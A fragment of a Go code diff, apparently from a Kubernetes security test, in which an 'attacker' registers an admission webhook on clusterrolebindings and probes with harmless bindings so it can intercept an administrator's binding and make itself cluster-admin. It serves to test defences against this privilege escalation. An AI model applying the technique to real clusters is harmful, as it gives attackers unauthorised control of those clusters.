+	Rule:       admissionregistrationv1.Rule{APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}},
+}
+
+// intercept waits for a binding that the administrator makes, and that makes the attacker cluster-admin.
+func (a attacker) intercept() {
+	a.Helper()
 	ctx, cancel := context.WithTimeout(a.Context(), time.Minute)
 	defer cancel()
-	for i := 0; ; i++ { // until the API server has learnt of the webhook
+	for i := 0; ; i++ { // until the API server has learnt of what changes it
 		b, err := a.admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
-			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint("innocent-", i), Labels: map[string]string{"app": a.name}},
+			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint(a.name, "-innocent-", i), Labels: map[string]string{"app": a.name}},
 			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
 			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "auditor"}},
 		}, metav1.CreateOptions{})
